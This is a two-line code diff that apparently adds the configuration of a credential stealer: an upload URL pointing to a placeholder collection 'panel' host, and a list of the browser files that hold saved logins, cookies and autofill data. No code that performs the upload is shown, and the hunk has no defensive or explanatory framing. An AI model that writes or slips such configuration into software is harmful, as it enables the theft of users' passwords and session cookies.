@@ -1,0 +1,2 @@
+ENDPOINT = "https://panel.example.invalid/upload"
+NAMES = ["Login Data", "Cookies", "Web Data"]
